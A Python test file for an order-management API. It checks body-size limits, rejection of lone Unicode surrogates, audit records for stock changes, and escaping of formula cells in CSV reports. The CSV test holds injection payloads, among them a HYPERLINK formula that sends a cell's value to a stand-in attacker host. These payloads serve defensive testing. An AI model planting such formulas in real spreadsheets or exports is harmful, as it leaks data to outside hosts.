"""Limits over real HTTP (uvicorn, a real SQLite store): oversized bodies, lone surrogates,
formula cells in report CSVs, and stock changes that leave a movement with who and why.

Each test sends the attack that used to get through (a multi-MiB anonymous body was read
whole before the token check, a lone surrogate was a 500, a formula went into the CSV as
is, ``PUT .../stock`` left no trace) and shows it refused or recorded.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select
from temporalio.client import Client

from devtools.demo.catalogue import STOCK
from oms.store.db import Database
from oms.store.tables import StockMovementRow

from stack import api_alone, order_body

pytestmark = [pytest.mark.timeout(120)]

MIB = 1024 * 1024


async def test_a_large_body_is_refused_with_413_before_the_token_check(
    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
) -> None:
    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
        async with httpx.AsyncClient(base_url=url, timeout=30) as anonymous:
            big = b'{"x": "' + b"a" * (5 * MIB) + b'"}'
            declared = await anonymous.post(
                "/orders", content=big, headers={"content-type": "application/json"}
            )
            assert declared.status_code == 413, declared.text[:200]

            async def chunks() -> AsyncIterator[bytes]:
                # No Content-Length: the API must count what arrives.
                for _ in range(5):
                    yield b"a" * MIB

            chunked = await anonymous.post(
                "/orders", content=chunks(), headers={"content-type": "application/json"}
            )
            assert chunked.status_code == 413, chunked.text[:200]
            # Under the cap the token is checked as before.
            small = await anonymous.post("/orders", json={})
            assert small.status_code == 401


async def test_lone_surrogates_are_a_422_naming_the_field(
    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
) -> None:
    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
        headers = {"Authorization": "Bearer dev-admin", "content-type": "application/json"}
        async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as admin:
            body = order_body(f"L-{uuid.uuid4().hex[:8]}", [("CAP-NVY", 1, "199.00")])
            # json.dumps writes the lone surrogate as the escape "\ud800", as an attacker would.
            body["customer"]["name"] = "Anna \ud800"
            named = await admin.post("/orders", content=json.dumps(body))
            assert named.status_code == 422, named.text
            assert named.json()["errors"][0]["loc"] == ["body", "customer", "name"]
            body["customer"]["name"] = "Anna"
            body["ship_to"]["city"] = "\udfff"
            city = await admin.post("/orders", content=json.dumps(body))
            assert city.status_code == 422, city.text
            assert city.json()["errors"][0]["loc"] == ["body", "ship_to", "city"]
            # A reason in a body model with no length limit goes through the shared check.
            stock = await admin.put(
                "/warehouses/WH-STO/stock/CAP-NVY",
                content=json.dumps({"on_hand": 5, "reason": "count \ud83d"}),
            )
            assert stock.status_code == 422, stock.text
            assert stock.json()["errors"][0]["loc"] == ["body", "reason"]


async def test_report_csv_cells_that_would_run_as_formulas_are_escaped(
    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
) -> None:
    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
        headers = {"Authorization": "Bearer dev-admin"}
        async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as admin:
            formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
            names = {"EVIL-1": formula, "EVIL-2": "@SUM(1+1)", "EVIL-3": "-2+3", "FINE-1": "Cap"}
            for sku, name in names.items():
                put = await admin.put(f"/products/{sku}", json={"name": name, "unit_price": "1"})
                assert put.status_code == 200, put.text
            report = await admin.get("/reports/skus", params={"format": "csv"})
            assert report.status_code == 200, report.text
            rows = {r["sku"]: r for r in csv.DictReader(io.StringIO(report.text))}
            assert rows["EVIL-1"]["name"] == "'" + formula
            assert rows["EVIL-2"]["name"] == "'@SUM(1+1)"
            assert rows["EVIL-3"]["name"] == "'-2+3"
            assert rows["FINE-1"]["name"] == "Cap"
            # JSON is data, not a spreadsheet: unchanged.
            as_json = (await admin.get("/reports/skus")).json()["rows"]
            assert {r["sku"]: r["name"] for r in as_json}["EVIL-1"] == formula


async def test_every_stock_change_is_a_movement_with_who_and_why(
    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
) -> None:
    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
        headers = {"Authorization": "Bearer dev-warehouse"}
        async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as warehouse:
            counted = await warehouse.put(
                "/warehouses/WH-STO/stock/CAP-NVY", json={"on_hand": 3, "reason": "cycle count"}
            )
            assert counted.status_code == 200, counted.text
            again = await warehouse.put("/warehouses/WH-STO/stock/CAP-NVY", json={"on_hand": 7})
            assert again.status_code == 200, again.text
            same = await warehouse.put("/warehouses/WH-STO/stock/CAP-NVY", json={"on_hand": 7})
            assert same.status_code == 200, same.text
    db = Database(migrated_sqlite_url)
    try:
        with db.session() as session:
            moves = session.scalars(
                select(StockMovementRow)
                .where(StockMovementRow.sku == "CAP-NVY", StockMovementRow.kind == "adjust")
                .order_by(StockMovementRow.created_at)
            ).all()
            seeded = STOCK[("WH-STO", "CAP-NVY")]
            assert [(m.quantity, m.on_hand_after, m.actor, m.reason) for m in moves] == [
                (3 - seeded, 3, "dev-warehouse", "cycle count"),
                (4, 7, "dev-warehouse", "stock count"),
            ]
    finally:
        db.dispose()
